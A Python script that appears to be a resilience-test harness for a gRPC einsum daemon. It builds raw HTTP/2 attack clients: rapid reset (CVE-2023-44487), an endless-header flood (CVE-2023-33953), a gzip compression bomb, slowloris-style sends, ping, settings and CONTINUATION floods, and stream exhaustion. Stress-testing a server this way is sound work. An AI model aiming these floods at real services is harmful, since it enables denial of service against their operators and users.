"""Clients that mean harm, one kind a function, by raw frames: what no gRPC library would send.

    python hostile.py KIND HOST:PORT [--seconds 5]

runs one beside whatever else the daemon serves, as a process of its own, so that it takes nothing from
the honest callers but the machine. It says what it did: RESULT {"sent": ..., "connections": ...,
"cut": ...}, where `cut` counts the connections that the daemon ended.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field

from raw_http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    call_headers,
    frame,
    header_block,
    integer,
    literal,
    message,
)  # fmt: skip

EINSUM = "/einsum.v1.Einsum/Einsum"
STREAM = "/einsum.v1.Einsum/EinsumStream"
LIST = "/einsum.v1.Einsum/ListWeights"
CONTINUATION, WINDOW_UPDATE = 9, 8
CANCEL = struct.pack(">I", 8)
HELLO = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
PIECE = 16384


@dataclass
class Deeds:
    sent: int = 0  # frames, calls or bytes: of what the kind has a flood of
    connections: int = 0
    cut: int = 0
    codes: dict[str, int] = field(default_factory=dict)


class Hostile:
    """What all kinds share: an address, an end, and a count of deeds."""

    def __init__(self, address: str, seconds: float):
        self.address = address
        self.until = time.monotonic() + seconds
        self.deeds = Deeds()
        # Of its own: nobody else pays for what it does, nor it for who came before.
        self.source = f"127.66.{random.randrange(256)}.{random.randrange(1, 255)}"

    def over(self) -> bool:
        return time.monotonic() >= self.until

    def connect(self, hello: bytes = HELLO) -> socket.socket:
        if self.address.startswith("unix:"):
            made = socket.socket(socket.AF_UNIX)
            made.settimeout(5)
            made.connect(self.address.removeprefix("unix:"))
        else:
            host, port = self.address.rsplit(":", 1)
            made = socket.create_connection((host, int(port)), 5, (self.source, 0))
            made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.deeds.connections += 1
        if hello:
            made.sendall(hello)
        return made

    def wait(self, connections: list[socket.socket]) -> None:
        """To the end, reading what comes, so that whoever is cut off is counted."""
        live = {one.fileno(): one for one in connections}
        while live and not self.over():
            ready, _, _ = select.select(live.values(), [], [], 0.1)
            for one in ready:
                if not drained(one):
                    live.pop(one.fileno()).close()
                    self.deeds.cut += 1
        for one in live.values():
            one.close()

    def flood(
        self, connections_n: int, piece: Callable[[int], bytes], per_piece: int, hello: bytes = HELLO
    ) -> None:
        """The same again and again on every connection, as fast as they are taken. `piece` makes bytes
        from how many there were before on that connection."""
        counts: dict[socket.socket, int] = {}
        waiting: dict[socket.socket, bytes] = {}
        while not self.over():
            while len(counts) < connections_n:
                try:
                    one = self.connect(hello)
                except OSError:
                    time.sleep(0.01)
                    break
                one.setblocking(False)
                counts[one] = 0
            readable, writable, _ = select.select(counts, counts, [], 0.1)
            for one in readable:
                if not drained(one):
                    self._drop(one, counts, waiting)
            for one in writable:
                if one not in counts:
                    continue
                data = waiting.pop(one, b"")
                if not data:
                    data = piece(counts[one])
                    counts[one] += per_piece
                    self.deeds.sent += per_piece
                try:
                    taken = one.send(data)
                except BlockingIOError:
                    taken = 0
                except OSError:
                    self._drop(one, counts, waiting)
                    continue
                if taken < len(data):
                    waiting[one] = data[taken:]
        for one in counts:
            one.close()

    def _drop(self, one: socket.socket, *tables: dict) -> None:
        for table in tables:
            table.pop(one, None)
        one.close()
        self.deeds.cut += 1


def drained(one: socket.socket) -> bool:
    """Reads what there is; False at its end."""
    one.setblocking(False)
    try:
        while piece := one.recv(1 << 16):
            if len(piece) < 1 << 16:
                return True
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def stream_id(index: int) -> int:
    return 2 * index + 1


# ---- the kinds; the first line of each is its help

KINDS: dict[str, Callable[[Hostile], None]] = {}


def kind(function: Callable[[Hostile], None]) -> Callable[[Hostile], None]:
    KINDS[function.__name__.replace("_", "-")] = function
    return function


@kind
def stall(it: Hostile) -> None:
    """64 connections, 8 calls each, that stop in the middle of a message"""
    connections = []
    for _ in range(64):
        one = it.connect()
        for index in range(8):
            stream = stream_id(index)
            half = message(bytes(8000), 1 << 20)
            one.sendall(call_headers(EINSUM, stream) + frame(DATA, 0, stream, half))
            it.deeds.sent += 1
        connections.append(one)
    it.wait(connections)


@kind
def tiny_requests(it: Hostile) -> None:
    """4 connections that ask for nothing, wrongly, as fast as they are answered"""

    def piece(count: int) -> bytes:
        return b"".join(
            call_headers(EINSUM, stream_id(count + i))
            + frame(DATA, END_STREAM, stream_id(count + i), message(b""))
            for i in range(16)
        )

    it.flood(4, piece, 16)


@kind
def rapid_reset(it: Hostile) -> None:
    """4 connections that open calls and reset them at once (CVE-2023-44487)"""

    def piece(count: int) -> bytes:
        return b"".join(
            call_headers(EINSUM, stream_id(count + i))
            + frame(RST_STREAM, 0, stream_id(count + i), CANCEL)
            for i in range(64)
        )

    it.flood(4, piece, 64)


@kind
def rapid_reset_whole(it: Hostile) -> None:
    """4 connections that send whole requests and reset each at once"""

    def piece(count: int) -> bytes:
        return b"".join(
            call_headers(EINSUM, stream_id(count + i))
            + frame(DATA, END_STREAM, stream_id(count + i), message(b"\x12\x01x"))
            + frame(RST_STREAM, 0, stream_id(count + i), CANCEL)
            for i in range(64)
        )

    it.flood(4, piece, 64)


@kind
def half_close(it: Hostile) -> None:
    """64 connections that end their side in the middle of a call, and stay"""
    connections = []
    for index in range(64):
        one = it.connect()
        part = frame(DATA, 0, 1, message(bytes(100), 200)) if index % 2 else b""
        one.sendall(call_headers(EINSUM) + part)
        one.shutdown(socket.SHUT_WR)
        it.deeds.sent += 1
        connections.append(one)
    it.wait(connections)


@kind
def one_byte_a_second(it: Hostile) -> None:
    """64 connections that send a request byte by byte, one a second each"""
    whole = HELLO + call_headers(EINSUM) + frame(DATA, 0, 1, message(bytes(1000)))
    connections = [it.connect(b"") for _ in range(64)]
    sent = 0
    while connections and not it.over():
        for one in list(connections):
            try:
                one.sendall(whole[sent : sent + 1])
                it.deeds.sent += 1
            except OSError:
                connections.remove(one)
                it.deeds.cut += 1
        sent += 1
        time.sleep(1)
    for one in connections:
        one.close()


@kind
def many_streams(it: Hostile) -> None:
    """10,000 calls held open on 40 connections, and as many again past the limit on one more"""
    connections = []
    for index in range(41):
        one = it.connect()
        streams_n = 10_000 if index == 40 else 250
        for begin in range(0, streams_n, 50):
            calls = range(begin, min(begin + 50, streams_n))
            with contextlib.suppress(OSError):
                one.sendall(b"".join(call_headers(STREAM, stream_id(i)) for i in calls))
                it.deeds.sent += len(calls)
        connections.append(one)
    it.wait(connections)


@kind
def slow_reader(it: Hostile) -> None:
    """16 connections that ask for much and never read an answer"""
    small = struct.pack(">HI", 4, 2**31 - 1)  # the widest window: the socket alone holds it back
    hello = PREFACE + frame(SETTINGS, 0, 0, small) + frame(SETTINGS, ACK, 0) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\x00\x00\x00")
    connections = []
    for _ in range(16):
        one = it.connect(b"")
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.sendall(hello)
        with contextlib.suppress(OSError):
            one.settimeout(0.2)
            for index in range(250):
                stream = stream_id(index)
                one.sendall(
                    call_headers(LIST, stream) + frame(DATA, END_STREAM, stream, message(b""))
                )
                it.deeds.sent += 1
        connections.append(one)
    while not it.over():
        time.sleep(0.1)
    for one in connections:
        one.close()


@kind
def giant_metadata(it: Hostile) -> None:
    """4 connections whose calls have 4 MB of metadata each"""

    def piece(count: int) -> bytes:
        stream = stream_id(count)
        block = header_block(EINSUM, **{f"x-{i}": "y" * 60_000 for i in range(64)})
        return headers_in_pieces(stream, block)

    it.flood(4, piece, 1)


def headers_in_pieces(stream: int, block: bytes) -> bytes:
    pieces = [block[i : i + PIECE] for i in range(0, len(block), PIECE)]
    last = len(pieces) - 1
    return b"".join(
        frame(HEADERS if i == 0 else CONTINUATION, END_HEADERS if i == last else 0, stream, part)
        for i, part in enumerate(pieces)
    )


@kind
def endless_headers(it: Hostile) -> None:
    """4 connections with one call each whose headers never end"""
    pairs = header_block(EINSUM, **{f"x-{i}": "y" * 100 for i in range(100)})[:PIECE]
    more = b"".join(literal(b"z-%d" % i, b"y" * 100) for i in range(140))[:PIECE]

    def piece(count: int) -> bytes:
        if count == 0:
            return frame(HEADERS, 0, 1, pairs)
        return frame(CONTINUATION, 0, 1, more)

    it.flood(4, piece, 1)


@kind
def endless_header(it: Hostile) -> None:
    """4 connections with one header each that claims a gigabyte (CVE-2023-33953)"""
    begin = header_block(EINSUM) + b"\x10\x03abc" + integer(1 << 30, 0, 127)

    def piece(count: int) -> bytes:
        if count == 0:
            return frame(HEADERS, 0, 1, begin)
        return frame(CONTINUATION, 0, 1, b"y" * PIECE)

    it.flood(4, piece, 1)


@kind
def compressed_bomb(it: Hostile) -> None:
    """4 connections whose messages of 64 KB would inflate to 64 MB"""
    bomb = gzip.compress(bytes(64 << 20))
    payload = struct.pack(">BI", 1, len(bomb)) + bomb

    def piece(count: int) -> bytes:
        stream = stream_id(count)
        parts = [payload[i : i + PIECE] for i in range(0, len(payload), PIECE)]
        return call_headers(EINSUM, stream, grpc_encoding="gzip") + b"".join(
            frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts
        )

    it.flood(4, piece, 1)


@kind
def ping_flood(it: Hostile) -> None:
    """4 connections that ping as fast as they can"""
    it.flood(4, lambda _: frame(PING, 0, 0, bytes(8)) * 256, 256)


@kind
def settings_flood(it: Hostile) -> None:
    """4 connections that change their settings as fast as they can"""
    it.flood(4, lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 2)) * 256, 256)


@kind
def empty_frames(it: Hostile) -> None:
    """4 connections with one call each, of DATA frames without data"""

    def piece(count: int) -> bytes:
        return (call_headers(STREAM) if count == 0 else b"") + frame(DATA, 0, 1) * 256

    it.flood(4, piece, 256)


@kind
def silence(it: Hostile) -> None:
    """200 connections that never say a word"""
    it.wait([it.connect(b"") for _ in range(200)])


@kind
def connection_churn(it: Hostile) -> None:
    """connections that are opened and reset, one after the other"""
    while not it.over():
        try:
            one = it.connect()
        except OSError:
            time.sleep(0.001)
            continue
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        one.close()
        it.deeds.sent += 1


@kind
def garbage(it: Hostile) -> None:
    """8 connections of random bytes, half of them with HTTP/2's preface before"""
    junk = os.urandom(PIECE)
    it.flood(8, lambda _: PREFACE + junk if os.urandom(1)[0] & 1 else junk, 1, b"")

@kind
def http1(it: Hostile) -> None:
    """4 connections that ask by HTTP/1.1"""
    it.flood(4, lambda _: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 16, 16, b"")


# ---- the command


@contextlib.contextmanager
def report(it: Hostile) -> Iterator[None]:
    try:
        yield
    finally:
        print("RESULT " + json.dumps(asdict(it.deeds)), flush=True)


def main() -> int:
    kinds = "\n".join(f"  {name:18} {function.__doc__}" for name, function in KINDS.items())
    parser = argparse.ArgumentParser(
        description=__doc__, epilog=f"kinds:\n{kinds}",
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )  # fmt: skip
    parser.add_argument("kind", choices=KINDS, metavar="KIND")
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=5)
    arguments = parser.parse_args()
    it = Hostile(arguments.address, arguments.seconds)
    with report(it):
        KINDS[arguments.kind](it)
    return 0


if __name__ == "__main__":
    sys.exit(main())
